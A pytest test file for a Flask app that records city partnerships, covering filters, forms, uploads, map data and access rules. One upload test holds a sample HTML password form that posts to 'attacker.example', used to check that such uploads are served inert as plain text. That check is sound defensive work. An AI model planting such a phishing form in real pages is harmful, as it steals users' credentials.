"""Places and partnerships pages: the places list and its filters, a place's page, admins'
corrections, partnership forms, summaries, the map data, the dashboard and access."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from flask import Flask
from sqlalchemy import Connection

from casestudies.mapdata import MapFilters, map_data
from casestudies.models import CooperationArea, Partnership, PartnershipDocument, Place
from casestudies.places import PlaceFilters, places_query
from casestudies.seeding import places_command
from casestudies.summaries import summarise
from fieldwork.extensions import db
from fieldwork.models import AuditEntry, Project, User
from tests.access_samples import BUILDERS
from tests.casestudies.helpers import add_partnership
from tests.conftest import log_in
from tests.test_access_matrix import actual_answer, checked_rules, expected_answer

Finder = Callable[[str, str], Place]


@pytest.fixture
def ties(project: Project, gazetteer: Finder) -> dict[str, Partnership]:
    find = gazetteer
    return {
        "wro-gz": add_partnership(project, find("Wrocław", "PL"), find("Guangzhou", "CN"),
                                  "friendship_city", ("business", "education")),
        "wro-chi": add_partnership(project, find("Wrocław", "PL"), find("Chicago", "US"),
                                   "letter_of_intent", ("business",)),
        "krk-roc": add_partnership(project, find("Kraków", "PL"),
                                   db.session.scalar(db.select(Place).where(
                                       Place.name == "Rochester", Place.country_code == "US")),
                                   "sister_city", ("culture",)),
        "ham-sh": add_partnership(project, find("Hamburg", "DE"), find("Shanghai", "CN"),
                                  "sister_city", ("business", "environment")),
        "lyon": add_partnership(project, find("Lyon", "FR"), find("Wuhan", "CN")),
    }


def names(filters: PlaceFilters, user: User) -> set[str]:
    return {place.name for place in db.session.scalars(places_query(filters, user))}


def test_place_filters(ties: dict[str, Partnership], people: dict[str, User]) -> None:
    lead = people["lead"]
    assert names(PlaceFilters(has_us=True), lead) == {"Wrocław", "Kraków"}
    assert names(PlaceFilters(has_cn=True), lead) == {"Wrocław", "Hamburg", "Lyon"}
    assert names(PlaceFilters(has_us=True, has_cn=True), lead) == {"Wrocław"}
    assert names(PlaceFilters(has_cn=True, cee=True), lead) == {"Wrocław"}
    assert names(PlaceFilters(area="environment"), lead) == {"Hamburg", "Shanghai"}
    assert "Gdańsk" in names(PlaceFilters(country="PL", kind="city", band="250k"), lead)
    assert "Warsaw" not in names(PlaceFilters(country="PL", kind="city", band="250k"), lead)
    assert names(PlaceFilters(country="PL", kind="city", band="1m"), lead) == {"Warsaw"}
    # Partner filters only look at the reader's projects.
    assert names(PlaceFilters(has_us=True), people["outsider"]) == set()


def test_places_list_page(ties: dict[str, Partnership], people: dict[str, User],
                          client_for) -> None:
    client = client_for(people["viewer"])
    page = client.get("/places?has_cn=y&cee=y").get_data(as_text=True)
    assert "Wrocław" in page and "Hamburg" not in page
    assert 'aria-current="page">Places</a>' in page
    page = client.get("/places?q=Wroc").get_data(as_text=True)
    assert "1</strong> place." in page


@pytest.mark.parametrize("path", ["/places", "/projects/{project}/partnerships"])
def test_filters_are_not_wrong_before_use(project: Project, people: dict[str, User],
                                          client_for, path: str) -> None:
    page = client_for(people["viewer"]).get(path.format(project=project.id))
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "Not a valid choice" not in text and 'aria-invalid="true"' not in text


@pytest.mark.parametrize(("path", "current"), [
    ("/partnerships", "Partnerships"),
    ("/partnerships/map", "Map"),
    ("/partnerships/summary", "Partnerships"),
    ("/case-studies", "Case studies"),
    ("/", "Dashboard"),
])
def test_only_the_current_section_is_highlighted(project: Project, people: dict[str, User],
                                                 client_for, path: str, current: str) -> None:
    page = client_for(people["viewer"]).get(f"/projects/{project.id}{path}")
    sections = page.get_data(as_text=True).split('aria-label="Sections"')[1].split("</nav>")[0]
    assert sections.count('aria-current="page"') == 1
    assert f'aria-current="page">{current}</a>' in sections
    # every destination is still there, grouped in menus
    for label in ("Projects", "Places", "Partnerships", "Map", "Case studies", "Survey",
                  "Interviews", "Participants", "Calendar", "My interviews", "Transcripts"):
        assert f">{label}</a>" in sections, label


def test_place_page_shows_only_the_readers_partnerships(
    ties: dict[str, Partnership], people: dict[str, User], client_for,
) -> None:
    place_id = ties["wro-gz"].eu_place_id
    page = client_for(people["viewer"]).get(f"/places/{place_id}").get_data(as_text=True)
    assert "Guangzhou" in page and "Lower Silesia" in page
    page = client_for(people["outsider"]).get(f"/places/{place_id}").get_data(as_text=True)
    assert "Guangzhou" not in page and "No partnerships" in page


def test_admin_adds_and_corrects_a_place(project: Project, people: dict[str, User],
                                         gazetteer: Finder, client_for) -> None:
    client = client_for(people["admin"])
    response = client.post("/admin/places/new", data={
        "kind": "city", "name": "Legnica", "name_local": "Legnica", "country_code": "pl",
        "region_name": "PL51", "population": "98000", "latitude": "51.21", "longitude": "16.16",
        "is_eu": "y", "is_cee": "y", "alternate_names": "Liegnitz",
    })
    assert response.status_code == 302
    place = db.session.scalar(db.select(Place).where(Place.name == "Legnica"))
    assert place.region.nuts_code == "PL51" and place.alternate_names == ["Liegnitz"]
    response = client.post(f"/admin/places/{place.id}/edit", data={
        "kind": "city", "name": "Legnica", "country_code": "PL", "region_name": "Nowhere land",
    })
    assert "No place called “Nowhere land”" in response.get_data(as_text=True)
    response = client.post(f"/admin/places/{place.id}/edit", data={
        "kind": "city", "name": "Legnica", "country_code": "PL", "population": "99000",
        "is_eu": "y",
    })
    assert response.status_code == 302
    db.session.refresh(place)
    assert place.population == 99000
    assert db.session.scalar(db.select(AuditEntry.summary).where(
        AuditEntry.action == "place.update")) == "Place Legnica corrected"
    assert client_for(people["lead"]).get("/admin/places/new").status_code == 403


def test_partnership_form_resolves_typed_names(
    project: Project, people: dict[str, User], gazetteer: Finder, client_for,
) -> None:
    client = client_for(people["interviewer"])
    response = client.post(f"/projects/{project.id}/partnerships/new", data={
        "eu_place": "Breslau", "partner_place": "Springfield", "kind": "sister_city",
        "status": "active", "signed_on": "2019-02-30",
    })
    page = response.get_data(as_text=True)
    assert "Several places are called “Springfield”" in page
    assert "“2019-02-30” is not a date" in page
    assert 'value="Breslau"' in page
    response = client.post(f"/projects/{project.id}/partnerships/new", data={
        "eu_place": "Wrocław (city, PL)", "partner_place": "Springfield (Illinois)",
        "kind": "sister_city", "status": "active", "signed_on": "2019-02-28",
    })
    assert response.status_code == 302
    made = db.session.scalar(db.select(Partnership).where(Partnership.project_id == project.id))
    assert made.partner_place.region.name == "Illinois" and made.partner_country == "US"
    response = client.post(f"/projects/{project.id}/partnerships/new", data={
        "eu_place": "Chicago", "partner_place": "Guangzhou", "kind": "sister_city",
        "status": "active"})
    assert "is not in the EU" in response.get_data(as_text=True)


def test_the_areas_a_new_partnership_form_offers_are_saved_and_can_be_ticked(
    project: Project, people: dict[str, User], gazetteer: Finder, client_for,
) -> None:
    client = client_for(people["interviewer"])
    form = client.get(f"/projects/{project.id}/partnerships/new").get_data(as_text=True)
    areas = dict(db.session.execute(db.select(CooperationArea.name, CooperationArea.id).where(
        CooperationArea.project_id == project.id)).all())
    assert f'value="{areas["business"]}"' in form
    response = client.post(f"/projects/{project.id}/partnerships/new", data={
        "eu_place": "Wrocław (city, PL)", "partner_place": "Guangzhou", "kind": "sister_city",
        "status": "active", "areas": str(areas["business"])})
    assert response.status_code == 302
    made = db.session.scalar(db.select(Partnership).where(Partnership.project_id == project.id))
    assert [area.name for area in made.areas] == ["business"]


def test_suggestions_include_exonyms(people: dict[str, User], gazetteer: Finder,
                                     client_for) -> None:
    client = client_for(people["viewer"])
    page = client.get("/places/suggest?side=eu&eu_place=Bresl").get_data(as_text=True)
    assert page == ""  or "Wrocław" not in page
    page = client.get("/places/suggest?side=eu&eu_place=Breslau").get_data(as_text=True)
    assert "Wrocław (city, PL)" in page
    page = client.get("/places/suggest?side=partner&partner_place=Shang").get_data(as_text=True)
    assert "Shanghai (city, CN)" in page and "PL)" not in page


def test_sources_documents_and_delete(
    project: Project, people: dict[str, User], ties: dict[str, Partnership],
    client_for, files_dir,
) -> None:
    partnership = ties["wro-gz"]
    base = f"/projects/{project.id}/partnerships/{partnership.id}"
    client = client_for(people["interviewer"])
    response = client.post(f"{base}/sources", data={"url": "ftp://nope"})
    assert response.status_code == 400
    assert client.post(f"{base}/sources", data={
        "url": "https://www.wroclaw.pl/en", "seen_on": "2024-03-01"}).status_code == 302
    assert client.post(f"{base}/documents", data={
        "file": (io.BytesIO(b"%PDF-1.7 agreement"), "agreement.pdf"), "title": "MoU 2015"},
        content_type="multipart/form-data").status_code == 302
    page = client_for(people["viewer"]).get(base).get_data(as_text=True)
    assert "https://www.wroclaw.pl/en" in page and "MoU 2015" in page
    document = partnership.documents[0] if partnership.documents else db.session.scalar(
        db.select(Partnership).where(Partnership.id == partnership.id)).documents[0]
    download = client_for(people["viewer"]).get(
        f"/projects/{project.id}/partnerships/documents/{document.id}")
    assert download.get_data() == b"%PDF-1.7 agreement"
    assert download.headers["Content-Type"] == "application/pdf"
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert client_for(people["viewer"]).post(f"{base}/delete").status_code == 403
    partnership_id = partnership.id
    assert client.post(f"{base}/delete").status_code == 302
    assert db.session.scalar(
        db.select(Partnership.id).where(Partnership.id == partnership_id)) is None


def test_a_document_declared_as_a_web_page_is_downloaded_as_text(
    project: Project, people: dict[str, User], ties: dict[str, Partnership],
    client_for, files_dir,
) -> None:
    """The browser's declared type is never served: the bytes say text, and the file goes out
    as a download that no browser sniffs or runs."""
    base = f"/projects/{project.id}/partnerships/{ties['wro-gz'].id}"
    page = b"<html><form action='https://attacker.example/'><input type=password></form>"
    client = client_for(people["interviewer"])
    assert client.post(f"{base}/documents", data={
        "file": (io.BytesIO(page), "agreement.html", "text/html"), "title": "Agreement"},
        content_type="multipart/form-data").status_code == 302
    document = db.session.scalar(db.select(PartnershipDocument).where(
        PartnershipDocument.title == "Agreement"))
    assert document.file.content_type == "text/plain"
    download = client.get(f"/projects/{project.id}/partnerships/documents/{document.id}")
    assert download.get_data() == page
    assert download.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert download.headers["Content-Disposition"] == (
        "attachment; filename=\"agreement.html\"; filename*=UTF-8''agreement.html")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Security-Policy"] == "sandbox"


def test_partnership_list_filters(project: Project, people: dict[str, User],
                                  ties: dict[str, Partnership], client_for) -> None:
    client = client_for(people["viewer"])
    page = client.get(f"/projects/{project.id}/partnerships?partner_country=US")
    text = page.get_data(as_text=True)
    assert "Chicago" in text and "Guangzhou" not in text
    text = client.get(f"/projects/{project.id}/partnerships?kind=sister_city&eu_country=DE"
                      ).get_data(as_text=True)
    assert "Hamburg" in text and "Kraków" not in text


def test_summary_counts_by_country_partner_and_area(
    project: Project, ties: dict[str, Partnership], client_for, people: dict[str, User],
) -> None:
    summary = summarise(project)
    rows = {row.eu_country: row for row in summary.rows}
    assert rows["PL"].totals == {"CN": 1, "US": 2}
    assert rows["PL"].cells[("US", "business")] == 1
    assert rows["PL"].cells[("CN", "education")] == 1
    assert rows["DE"].cells[("CN", "environment")] == 1
    assert rows["FR"].cells[("CN", "(no area given)")] == 1
    assert summary.totals == {"CN": 3, "US": 2} and summary.grand_total == 5
    assert summary.column_totals[("CN", "business")] == 2
    page = client_for(people["viewer"]).get(f"/projects/{project.id}/partnerships/summary")
    assert "Germany" in page.get_data(as_text=True)


def test_map_data(project: Project, ties: dict[str, Partnership], client_for,
                  people: dict[str, User]) -> None:
    data = map_data(project)
    assert len(data["arcs"]) == 5
    assert {p["side"] for p in data["places"]} == {"eu", "partner"}
    assert len(map_data(project, MapFilters(partner_country="US"))["arcs"]) == 2
    assert len(map_data(project, MapFilters(kind="sister_city"))["arcs"]) == 3
    arcs = map_data(project, MapFilters(area="business"))["arcs"]
    assert {arc["id"] for arc in arcs} == {ties[k].id for k in ("wro-gz", "wro-chi", "ham-sh")}
    response = client_for(people["viewer"]).get(
        f"/projects/{project.id}/partnerships/map.json?partner_country=CN")
    assert response.is_json and len(response.json["arcs"]) == 3
    wroclaw = next(p for p in response.json["places"] if p["name"] == "Wrocław")
    assert round(wroclaw["lat"]) == 51 and round(wroclaw["lon"]) == 17
    page = client_for(people["viewer"]).get(f"/projects/{project.id}/partnerships/map")
    assert b"js/map.js" in page.data and b"<script>" not in page.data


def test_dashboard_panel_and_statistics(project: Project, ties: dict[str, Partnership],
                                        client_for, people: dict[str, User],
                                        app: Flask) -> None:
    page = client_for(people["viewer"]).get(f"/projects/{project.id}/").get_data(as_text=True)
    assert "With Chinese partners" in page
    feature = next(f for f in app.extensions["fieldwork.features"] if f.name == "places")
    assert feature.stats(project) == {"partnerships": 5, "places_linked": 9}


def test_seed_command_is_idempotent(app: Flask) -> None:
    runner = app.test_cli_runner()
    first = runner.invoke(places_command, ["seed"])
    assert first.exit_code == 0, first.output
    second = runner.invoke(places_command, ["seed"])
    assert second.output.startswith("0 places added")
    assert db.session.scalar(db.select(db.func.count()).select_from(Place).where(
        Place.kind == "city", Place.is_cee.is_(True))) >= 200


MY_ARGUMENTS = ("place_id", "partnership_id", "partnership_source_id",
                "partnership_document_id", "cooperation_area_id")


@pytest.mark.parametrize("role", ["anonymous", "outsider", "admin", "viewer", "interviewer"])
def test_access_of_places_routes(app: Flask, project: Project, people: dict[str, User],
                                 role: str, transaction: Connection, files_dir) -> None:
    """The access matrix for this blueprint's routes alone (the full matrix covers all)."""
    client = app.test_client()
    wrong = []
    for case in checked_rules(app):
        if not case.rule.endpoint.startswith("places."):
            continue
        if role != "anonymous":
            log_in(client, people[role])
        values = {arg: BUILDERS[arg](project, people) for arg in case.rule.arguments}
        url = case.rule.build(values)[1]
        expected = expected_answer(app.view_functions[case.rule.endpoint].access, role)
        db.session.commit()
        attempt = transaction.begin_nested()
        response = client.open(url, method=case.method)
        db.session.rollback()
        attempt.rollback()
        answer = actual_answer(response.status_code, response.headers.get("Location", ""))
        if answer != expected:
            wrong.append(f"{case}: expected {expected}, got {answer} ({response.status_code})")
    assert wrong == [], "\n".join(wrong)


def test_samples_are_in_another_project_for_outsiders(
    project: Project, make_project: Callable[..., Project], people: dict[str, User],
    client_for, files_dir,
) -> None:
    ids = {name: BUILDERS[name](project, people) for name in MY_ARGUMENTS}
    other = make_project("Other", lead=people["outsider"])
    client = client_for(people["outsider"])
    assert client.get(f"/projects/{other.id}/partnerships/{ids['partnership_id']}"
                      ).status_code == 404
    assert client.get(f"/projects/{other.id}/partnerships/documents/"
                      f"{ids['partnership_document_id']}").status_code == 404
    assert client.post(f"/projects/{other.id}/partnerships/areas/"
                       f"{ids['cooperation_area_id']}/delete").status_code == 404
